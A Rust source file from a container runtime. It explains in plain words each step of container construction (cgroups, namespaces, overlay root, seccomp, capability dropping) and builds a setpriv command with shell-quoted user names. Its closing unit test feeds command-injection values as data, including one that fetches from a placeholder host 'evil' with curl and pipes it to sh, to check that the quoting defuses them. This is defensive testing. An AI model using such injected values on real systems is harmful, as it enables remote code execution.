//! What each step of a container's construction is, in words: the same for the backend that
//! does it and for the one that imitates it.

use crate::spec::{ContainerSpec, Group, NameOrId, NetworkMode, PidsLimit, User};

/// A step, explained.
pub(crate) struct Lesson {
    /// What it does, in a few words.
    pub title: String,
    /// Why it is done, for a beginner.
    pub why: &'static str,
    /// Where the mechanism is specified.
    pub manual: &'static str,
}

/// The lesson of the step `id` in the construction of a container of `spec`.
pub(crate) fn lesson(id: &str, spec: &ContainerSpec) -> Lesson {
    let (title, why, manual) = match id {
        "publish-ports" => (
            "Bind the published ports of the host",
            "A port of the host can have one owner only. It is taken first, so that nothing has \
             been made yet if somebody else has it. Whoever connects waits in the kernel until the \
             command runs; then a small process without rights passes on what is said.",
            "man 2 bind",
        ),
        "cgroup" => (
            "Create the container's cgroup",
            "A cgroup is a named group of processes that the kernel counts and limits together. \
             Limits set here hold for all processes of the container, however many it starts.",
            "man 7 cgroups",
        ),
        "memory-limit" => (
            "",
            "When the container needs more than this, the kernel kills one of its processes and \
             leaves the rest of the machine alone. Swap counts too, so the limit is the limit.",
            "https://docs.kernel.org/admin-guide/cgroup-v2.html#memory",
        ),
        "cpu-limit" => (
            "",
            "In every 100 milliseconds the container may use this much CPU time; then it waits \
             for the next 100. It runs slower, but it is never stopped.",
            "https://docs.kernel.org/scheduler/sched-bwc.html",
        ),
        "pids-limit" => (
            "",
            "A program that starts copies of itself without end (a fork bomb) would stop the \
             whole machine. Here fork simply fails once the limit is reached.",
            "https://docs.kernel.org/admin-guide/cgroup-v2.html#pid",
        ),
        "clone" => (
            "Create init in new namespaces",
            "A namespace gives a process its own copy of something global: process ids, mounts, \
             the hostname, the network. All are made at once with the process that will be PID 1 \
             of the container.",
            "man 7 namespaces",
        ),
        "private-mounts" => (
            "Make all mounts private",
            "Mounts can be shared between namespaces, so that a new one in here would show up on \
             the host. Private mounts keep what follows inside the container.",
            "man 7 mount_namespaces",
        ),
        "overlay" => (
            "Mount the overlay root filesystem",
            "An overlay shows two folders as one: below, the image, which is never changed; \
             above, a folder for whatever this container writes. Many containers share one image \
             that way.",
            "https://docs.kernel.org/filesystems/overlayfs.html",
        ),
        "host-programs" => (
            "Show the host's programs, read-only",
            "The default image borrows its programs from this machine instead of downloading \
             them. They are shown read-only, and nothing else of the host is.",
            "man 2 open_tree",
        ),
        "proc" => (
            "Mount a fresh /proc",
            "/proc shows the processes of the PID namespace it was mounted in. Mounted anew, it \
             shows only the container's.",
            "man 5 proc",
        ),
        "sysfs" => (
            "Mount /sys read-only",
            "/sys describes devices and the kernel. The container may look, but a write there \
             could change settings of the whole machine.",
            "man 5 sysfs",
        ),
        "dev" => (
            "Build a small /dev",
            "Programs expect a few harmless devices such as /dev/null and /dev/urandom, and \
             terminals. The disks and other hardware of the host are simply not there.",
            "man 4 null",
        ),
        "masked-paths" => (
            "Hide kernel files that tell about the host",
            "Some files under /proc and /sys are the same for every namespace: the machine's \
             memory, its keys, its timers. They are covered with /dev/null or an empty folder.",
            "man 5 proc",
        ),
        "read-only-paths" => (
            "Make kernel settings read-only",
            "A write to /proc/sys or /proc/sysrq-trigger would set up, or restart, the whole \
             machine. The container may read them only.",
            "man 5 proc_sys",
        ),
        "pivot-root" => (
            "Make the rootfs the root, and drop the old one",
            "pivot_root exchanges the root of this mount namespace. The old root is then \
             unmounted, so that no path leads back to the host; a chroot alone could be escaped.",
            "man 2 pivot_root",
        ),
        "hostname" => (
            "Set the hostname",
            "The UTS namespace has its own hostname, so the container can be called what it \
             likes. The host keeps its name.",
            "man 2 sethostname",
        ),
        "bridge" => (
            "Reserve an IP on the bridge",
            "A bridge is a virtual switch: the cable of each container ends in one of its ports, and \
             the host has an address there too. The first container of a network creates it, and \
             each container gets an address that no other has.",
            "man 8 bridge",
        ),
        "masquerade" => (
            "Masquerade outgoing traffic (NAT)",
            "No other machine has a route to the container's address. So packets that leave get the \
             address of the host, and their answers get the container's back. The rules are in a \
             table of their own, which also keeps networks apart from each other.",
            "man 8 nft",
        ),
        "names" => (
            "Write /etc/hosts",
            "Programs look names up in /etc/hosts before they ask a name server. Each container has \
             one that lists the others on its network, and it is rewritten when they come and go.",
            "man 5 hosts",
        ),
        "find-network" => (
            "",
            "Its network namespace lives as long as a process is in it. We hold on to the process \
             itself instead of its number, which could soon be another's.",
            "man 2 pidfd_open",
        ),
        "veth" => (
            "Connect the container to the bridge",
            "A veth pair is a cable: what goes into one end comes out of the other. One end is \
             plugged into the bridge, the other becomes eth0 in the container's network namespace.",
            "man 4 veth",
        ),
        "join-network" => (
            "Enter the other container's network",
            "Both have the same interfaces, addresses and ports from now on, and reach each other \
             at 127.0.0.1. Everything else of theirs stays apart.",
            "man 2 setns",
        ),
        "etc-files" => (
            "Mount hosts, hostname and resolv.conf",
            "These three files name the container and say how others are found, so they cannot come \
             from an image. They are on the host, where they can be rewritten while it runs.",
            "man 5 resolv.conf",
        ),
        "address" => (
            "Give eth0 its address",
            "The new interface has no address and is down. With the address comes the way to all \
             others on the same network.",
            "man 8 ip-address",
        ),
        "default-route" => (
            "Set the default route",
            "What is not on the container's own network is sent to the host's address there, and \
             the host forwards it. Without this route the kernel says: network is unreachable.",
            "man 8 ip-route",
        ),
        "loopback" => (
            "Bring up the loopback interface",
            "A new network namespace has only a loopback interface, and even that is down. Up, \
             it lets programs in the container talk to each other at 127.0.0.1.",
            "man 7 netdevice",
        ),
        "fork" => (
            "Fork the command from init",
            "PID 1 has duties: it must reap orphans, and it ignores signals that it does not \
             handle. Our small init does that work, outside the container's limits, so that the \
             command can be an ordinary process.",
            "man 2 clone",
        ),
        "join-cgroup" => (
            "Enter the cgroup",
            "From here on the limits count. Only the command enters: our own init and supervisor \
             are not charged to the container.",
            "man 7 cgroups",
        ),
        "cgroup-namespace" => (
            "Hide the rest of the cgroup tree",
            "A cgroup namespace makes the container's cgroup look like the top of the tree. It \
             must be made after entering, because it starts at the cgroup of the caller.",
            "man 7 cgroup_namespaces",
        ),
        "cgroup-mount" => (
            "Mount the cgroup files, read-only",
            "Programs that size themselves by their limits (Java, Go, Node) read them at \
             /sys/fs/cgroup. They may read them, not raise them.",
            "man 7 cgroups",
        ),
        "oom-score" => (
            "Reset the OOM score",
            "If the whole machine runs out of memory the kernel looks for a process to kill. Our \
             helpers are spared, so that somebody is left to report it; the command is not.",
            "man 5 proc_pid_oom_score_adj",
        ),
        "rlimits" => (
            "Set per-process limits",
            "Resource limits hold for each single process: how many files it may open, how large \
             a core dump it may leave behind.",
            "man 2 setrlimit",
        ),
        "working-dir" => (
            "",
            "The command starts in this folder of the container. Afterwards we check that it \
             really lies inside: a folder left open from the host would be a way out.",
            "man 2 chdir",
        ),
        "terminal" => (
            "Allocate a terminal",
            "A terminal is a pair of files: what the program writes to one end, our supervisor \
             reads at the other, and the kernel turns a typed Ctrl-C into a signal. It comes from \
             the container's own /dev/pts.",
            "man 7 pty",
        ),
        "no-new-privs" => (
            "Set no_new_privs",
            "Set-user-ID programs such as su run with their owner's rights. With this flag they \
             run with the caller's, for this process and all its children, for ever.",
            "man 2 PR_SET_NO_NEW_PRIVS",
        ),
        "seccomp" => (
            "Install the system call filter",
            "The kernel checks every system call against this list, which is Docker's. The calls \
             that load modules, mount, or change the clock are refused with EPERM, whoever asks.",
            "man 2 seccomp",
        ),
        "capabilities" => (
            "Drop capabilities",
            "Root's power is split into about forty capabilities. The container keeps Docker's \
             fourteen, enough for ordinary programs, and loses those that reach the host.",
            "man 7 capabilities",
        ),
        "user-sockets" => (
            "Let every user bind low ports and ping",
            "On a machine that many share, ports below 1024 and pings are root's, because others \
             trust who answers there. In a network namespace of its own there is nobody to \
             deceive, so a server need not be root to answer at port 80.",
            "man 7 ip",
        ),
        "find-user" => (
            "",
            "The kernel knows users and groups by number alone. Names, home folders and who is in \
             which group stand in two text files, and every image has its own; so they are read \
             in here, where no link in them can lead to the host's.",
            "man 5 passwd",
        ),
        "user" => (
            "",
            "The pipes of its output are made the user's, who may then open /dev/stdout. Group \
             memberships are dropped first, then the group is set, then the user: in any \
             other order the right to do the next one would be gone.",
            "man 2 setresuid",
        ),
        "exec" => (
            "Execute the command",
            "The process becomes the program: its memory is replaced, everything built so far \
             stays. All other open files are closed by the kernel in the same moment.",
            "man 2 execve",
        ),
        _ => (
            "",
            "A bind mount shows a folder of the host at a second place in the tree of mounts: the \
             same files (inodes), not a copy. What is written there stays when the container is \
             deleted.",
            "man 2 move_mount",
        ),
    };
    let title = if title.is_empty() { title_of(id, spec) } else { title.to_string() };
    Lesson { title, why, manual }
}

/// The title of a step that the specification has a word in.
fn title_of(id: &str, spec: &ContainerSpec) -> String {
    match id {
        "memory-limit" => {
            let limit = spec.memory.map_or("nothing".to_string(), |limit| limit.to_string());
            format!("Limit memory to {limit}")
        }
        "cpu-limit" => {
            let limit = spec.cpu.map_or("nothing".to_string(), |limit| limit.to_string());
            format!("Limit CPU time to {limit} of one core")
        }
        "pids-limit" => match spec.pids {
            PidsLimit::AtMost(count) => format!("Limit processes and threads to {count}"),
            PidsLimit::Unlimited => "Do not limit processes and threads".into(),
        },
        "find-network" => match spec.network_mode() {
            NetworkMode::Container(other) => format!("Find the network of {other}"),
            mode => format!("Find the network {mode}"),
        },
        "working-dir" => format!("Go to {}", spec.directory()),
        "find-user" => format!("Look up user {}", spec.runs_as()),
        "user" => format!("Become user {}", spec.runs_as()),
        volume => {
            let number = volume.strip_prefix("volume-").and_then(|n| n.parse::<usize>().ok());
            let volume = number.and_then(|number| spec.volumes.get(number.checked_sub(1)?));
            match volume {
                Some(volume) => format!("Mount the volume {}", volume.container()),
                None => "Mount a volume".into(),
            }
        }
    }
}

/// What one would type to become the user that the command runs as. The names may be those of
/// an image by a stranger, and are quoted: who types it is root.
pub(crate) fn become_command(spec: &ContainerSpec) -> String {
    let quoted = |who: &NameOrId| shell_words::quote(&who.to_string()).into_owned();
    let User { user, group } = spec.runs_as();
    let uid = quoted(user);
    match (user, group) {
        (_, Group::Given(group)) => {
            format!("setpriv --clear-groups --regid {} --reuid {uid} sh", quoted(group))
        }
        (NameOrId::Name(_), _) => {
            format!("setpriv --init-groups --regid $(id -g {uid}) --reuid {uid} sh")
        }
        (NameOrId::Id(_), Group::OfUserOrRoot) => {
            format!("setpriv --clear-groups --regid 0 --reuid {uid} sh")
        }
        (NameOrId::Id(_), _) => format!("setpriv --clear-groups --regid {uid} --reuid {uid} sh"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_is_a_word_of_the_shell_whatever_it_is() {
        let become_user = |user: &str| {
            become_command(&ContainerSpec::new("a", "true").user(user.parse::<User>().unwrap()))
        };
        assert_eq!(become_user("bob"), "setpriv --init-groups --regid $(id -g bob) --reuid bob sh");
        assert_eq!(
            become_user("$(evil):x;curl${IFS}evil|sh"),
            "setpriv --clear-groups --regid 'x;curl${IFS}evil|sh' --reuid '$(evil)' sh"
        );
        assert_eq!(
            become_user("`evil`"),
            "setpriv --init-groups --regid $(id -g '`evil`') --reuid '`evil`' sh"
        );
    }
}
